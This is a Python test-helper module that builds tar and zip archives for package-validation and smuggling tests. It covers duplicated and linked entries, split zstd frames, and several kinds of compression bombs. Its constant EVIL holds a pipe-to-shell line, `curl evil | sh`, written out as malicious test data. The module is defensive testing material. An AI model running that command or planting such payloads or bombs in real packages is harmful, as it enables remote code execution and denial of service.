"""Archives built byte by byte, as the package tests (`test_package_differential`)
and the smuggling tests of every entry point (`server/test_smuggled`) need them:
tar and zip entries in any order, duplicated, compressed in several frames; and
compression bombs, streamed from zeros so that no test holds what they inflate to."""

from __future__ import annotations

import functools
import gzip
import io
import json
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import zstandard

from tests.files.helpers import HELPER, sha
from tests.helpers import example

EVIL = b"import os; os.system('curl evil | sh')\n"


@functools.cache
def base() -> str:
    """The upstream bundle, read when a test first needs it (never at import)."""
    return json.dumps(example("spec_bundle.config_mode.with_execution_lifecycle.valid.json"))


def bundle(files: dict[str, bytes]) -> dict[str, Any]:
    doc = json.loads(base())
    doc["execution"]["supporting_files"] = [{"source": s, "destination": s, "sha256": sha(d)} for s, d in files.items()]
    return doc


def tar_bytes(entries: list[tuple], fmt: int = tarfile.PAX_FORMAT, end: bool = True) -> bytes:
    """A tar of ("file", name, data), ("dir", name), ("symlink"|"hardlink", name, target)
    entries; without its end-of-archive marker when `end` is false."""
    buf = io.BytesIO()
    tar = tarfile.open(fileobj=buf, mode="w", format=fmt)
    for kind, name, *rest in entries:
        info = tarfile.TarInfo(name)
        if kind == "file":
            info.size = len(rest[0])
            tar.addfile(info, io.BytesIO(rest[0]))
            continue
        info.type = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE}[kind]
        if rest:
            info.linkname = rest[0]
        tar.addfile(info)
    end_at = tar.offset
    tar.close()
    raw = buf.getvalue()
    return raw if end else raw[:end_at]


class Pipe(io.RawIOBase):
    """A stream zipfile cannot seek back in: it writes data descriptors."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b) -> int:
        self.data += b
        return len(b)


def zip_bytes(entries: list[tuple], deflate: bool = True, streamed: bool = False) -> bytes:
    buf: Any = Pipe() if streamed else io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns on the duplicate names we mean to write
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as z:
            for kind, name, *rest in entries:
                if kind == "file":
                    z.writestr(name, rest[0])
                elif kind == "dir":
                    z.writestr(name.rstrip("/") + "/", b"")
                else:
                    info = zipfile.ZipInfo(name)
                    info.create_system = 3
                    info.external_attr = 0o120777 << 16
                    z.writestr(info, rest[0] if rest else "x")
    return bytes(buf.data) if streamed else buf.getvalue()


def gz(raw: bytes) -> bytes:
    return gzip.compress(raw, mtime=0)


def zst(raw: bytes) -> bytes:
    return zstandard.ZstdCompressor().compress(raw)


def skippable(payload: bytes) -> bytes:
    return struct.pack("<II", 0x184D2A50, len(payload)) + payload


def write(tmp: Path, name: str, data: bytes) -> Path:
    path = tmp / name
    path.write_bytes(data)
    return path


def packaged(extra: list[tuple] | None = None) -> tuple[dict, list[tuple]]:
    """The bundle declaring scripts/helper.py, and the entries of its honest package."""
    doc = bundle({"scripts/helper.py": HELPER})
    return doc, [("file", "bundle.json", json.dumps(doc).encode()), ("file", "scripts/helper.py", HELPER), *(extra or [])]


MiB = 1 << 20


def _zeros(size: int) -> Iterable[bytes]:
    block = bytes(8 * MiB)
    while size > 0:
        yield block[: min(size, len(block))]
        size -= len(block)


def _tar_member(name: str, size: int, pax: dict[str, str] | None = None) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = size
    info.pax_headers = pax or {}
    return info.tobuf(format=tarfile.PAX_FORMAT)


def _tar_file(name: str, data: bytes) -> bytes:
    return _tar_member(name, len(data)) + data + bytes(-len(data) % 512)


def _compress(fmt: str, parts: Iterable[bytes]) -> bytes:
    """`parts` joined and compressed as the tar.zst or tar.gz `fmt` names (fast levels:
    zeros compress as well either way)."""
    c = zstandard.ZstdCompressor(level=1).compressobj() if fmt == "tar.zst" else zlib.compressobj(1, zlib.DEFLATED, 31)
    return b"".join(c.compress(p) for p in parts) + c.flush()


@functools.cache
def bomb(shape: str, size: int, member: str = "zeros.bin") -> bytes:
    """A package holding a bundle declaring nothing and inflating to about `size` bytes
    of zeros or padding, `shape` being:
    "tar.zst" / "tar.gz": one member (named `member`) of `size` zeros;
    "zip": one deflated member (named `member`) of `size` zeros;
    "pax": a tar.zst of empty members, each behind a 1 MiB pax record (no member declares a byte);
    "trailer": a tar.gz whose end marker is followed by `size` zeros (nothing declares them);
    "frames": a tar.zst whose tar is split by `size` // 8 empty skippable zstd frames;
    "records": a plain tar of one empty member behind a pax header of `size` bytes of
    distinct, empty records (nothing inflates: the work is in reading them);
    "deep": a plain tar of one empty member named `size` bytes deep ("a/a/.../a/x")."""
    document = json.dumps(bundle({})).encode()
    if shape == "zip":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
            z.writestr("bundle.json", document)
            with z.open(member, "w") as f:
                for block in _zeros(size):
                    f.write(block)
        return buf.getvalue()
    head = _tar_file("bundle.json", document)
    end = bytes(1024)
    if shape in ("tar.zst", "tar.gz"):
        return _compress(shape, [head, _tar_member(member, size), *_zeros(size), bytes(-size % 512), end])
    if shape == "pax":
        record = {"comment": "x" * (MiB - 20)}
        return _compress("tar.zst", [head, *(_tar_member(f"empty/{i}", 0, record) for i in range(size // MiB)), end])
    if shape == "trailer":
        return _compress("tar.gz", [head, end, *_zeros(size)])
    if shape == "frames":
        return zst(head) + skippable(b"") * (size // 8) + zst(end)
    if shape == "records":
        records, length = [], 0
        while length < size - 16:
            body = f" k{len(records)}=\n"
            records.append(f"{len(body) + len(str(len(body) + 2))}{body}")  # "<length> k<i>=\n"
            length += len(records[-1])
        data = "".join(records).encode()
        pax = tarfile.TarInfo("././@PaxHeader")
        pax.size, pax.type = len(data), tarfile.XHDTYPE
        return head + pax.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + _tar_file("empty", b"") + end
    if shape == "deep":
        return head + _tar_file("a/" * (size // 2) + "x", b"") + end
    raise ValueError(shape)
